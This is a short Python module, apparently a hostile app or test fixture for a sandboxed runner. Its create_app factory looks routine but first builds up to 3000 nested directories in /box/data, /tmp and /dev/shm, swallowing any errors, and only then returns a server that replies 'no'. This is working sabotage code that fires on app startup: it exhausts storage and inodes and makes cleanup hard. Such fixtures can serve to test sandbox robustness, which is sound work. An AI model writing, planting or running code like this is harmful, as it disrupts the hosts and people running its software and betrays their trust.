"""Nests folders in every writable place."""

import os


def nest(place):
    home = os.open(".", os.O_RDONLY)
    try:
        os.chdir(place)
        for _ in range(3000):
            os.mkdir("deep-folder")
            os.chdir("deep-folder")
    except OSError:
        pass
    finally:
        os.fchdir(home)
        os.close(home)


def create_app(config=None):
    for place in ("/box/data", "/tmp", "/dev/shm"):
        nest(place)

    def server(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"no"]

    return server
